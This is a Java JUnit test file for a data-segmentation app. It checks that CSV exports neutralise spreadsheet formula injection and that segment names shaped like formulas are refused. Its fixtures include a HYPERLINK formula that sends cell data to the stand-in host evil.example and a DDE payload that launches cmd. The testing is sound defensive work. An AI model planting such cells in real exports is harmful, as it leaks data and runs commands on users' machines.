// SPDX-License-Identifier: GPL-3.0-or-later
package org.segmentlab.export;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.StringReader;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.segmentlab.data.DatasetLoader;
import org.segmentlab.segment.Scaling;
import org.segmentlab.segment.Segmentation;
import org.segmentlab.segment.SegmentationSettings;
import org.segmentlab.segment.Segmenter;

/** Exports never hand a spreadsheet a formula the app wrote, and on request none from the input. */
class FormulaInjectionTest {
  private static final List<String> NOTES = List.of(
      "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
      "\tTAB", "\rCR", "-12.5", "+7", "plain", "a=b");
  /** Of the notes above, the ones a spreadsheet could run: all but the numbers and plain text. */
  private static final int RISKY_NOTES = 6;

  private static Path hostile(Path folder) throws Exception {
    var text = new StringBuilder("id,note,=1+1,Minutes\n");
    for (int i = 0; i < 20; i++) {
      boolean high = i % 2 == 0;
      String note = NOTES.get(i % NOTES.size());
      text.append(i).append(",\"").append(note.replace("\"", "\"\"")).append("\",")
          .append(high ? 900 + i : 10 + i).append(',').append(high ? 5 + i : 4000 + i).append('\n');
    }
    return Files.writeString(folder.resolve("hostile.csv"), text);
  }

  private static Segmentation segment(Path input) throws Exception {
    return Segmenter.run(DatasetLoader.load(input),
        new SegmentationSettings(List.of("=1+1", "Minutes"), 2, Scaling.MIN_MAX, 42, 2));
  }

  private static List<CSVRecord> read(Path file) throws Exception {
    return CSVFormat.RFC4180.parse(new StringReader(Files.readString(file))).getRecords();
  }

  private static boolean startsLikeFormula(String cell) {
    return !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0;
  }

  @Test
  void theProfileNeverStartsACellWithAFormulaCharacterEvenForAFeatureNamedLikeOne(@TempDir Path folder)
      throws Exception {
    Path profile = folder.resolve("profile.csv");
    ProfileCsvWriter.write(segment(hostile(folder)), profile);
    List<CSVRecord> rows = read(profile);
    assertTrue(rows.get(0).toList().contains("'=1+1 mean"), rows.get(0).toString());
    for (CSVRecord row : rows) {
      for (String cell : row) {
        assertFalse(startsLikeFormula(cell) && !cell.matches("-?[0-9.]+"), "cell " + cell);
      }
    }
    assertTrue(rows.get(1).get(rows.get(0).size() - 1).startsWith("'=1+1 "), "the rule names the feature as text");
  }

  @Test
  void byDefaultInputCellsAreCopiedExactly(@TempDir Path folder) throws Exception {
    Path input = hostile(folder);
    Path out = folder.resolve("labelled.csv");
    LabelledCsvWriter.write(segment(input), out);
    List<CSVRecord> rows = read(out);
    assertEquals("=1+1", rows.get(0).get(2));
    for (int r = 1; r <= 20; r++) {
      assertEquals(NOTES.get((r - 1) % NOTES.size()), rows.get(r).get(1));
    }
  }

  @Test
  void anExcelSafeExportNeutralisesRiskyInputCellsCountsThemAndKeepsNumbers(@TempDir Path folder)
      throws Exception {
    Path input = hostile(folder);
    Path out = folder.resolve("labelled.csv");
    FormulaSafety safety = FormulaSafety.excelSafe();
    LabelledCsvWriter.write(segment(input), out, safety);
    List<CSVRecord> rows = read(out);
    assertEquals("'=1+1", rows.get(0).get(2), "a header cell from the input counts too");
    assertEquals(1 + 2 * RISKY_NOTES, safety.changedCells(), "the header and two rows of each risky note");
    for (int r = 1; r <= 20; r++) {
      String note = NOTES.get((r - 1) % NOTES.size());
      String written = rows.get(r).get(1);
      boolean number = note.equals("-12.5") || note.equals("+7");
      assertEquals(startsLikeFormula(note) && !number ? "'" + note : note, written, "row " + r);
      assertFalse(startsLikeFormula(rows.get(r).get(2)) && !rows.get(r).get(2).matches("[0-9]+"));
    }
  }

  @Test
  void aRenameToAFormulaOrWithControlCharactersIsRefused(@TempDir Path folder) throws Exception {
    Segmentation result = segment(hostile(folder));
    for (String name : List.of("=HYPERLINK(\"http://x\",\"y\")", "+1", "-cmd", "@SUM(1)", "two\nlines",
        "tab\there", "nul\0byte", "carriage\rreturn")) {
      var error = assertThrows(IllegalArgumentException.class, () -> result.withName(1, name), name);
      assertTrue(error.getMessage().startsWith("a segment name cannot "), error.getMessage());
    }
    assertEquals("Big = spenders", result.withName(1, "Big = spenders").segment(1).name());
  }
}
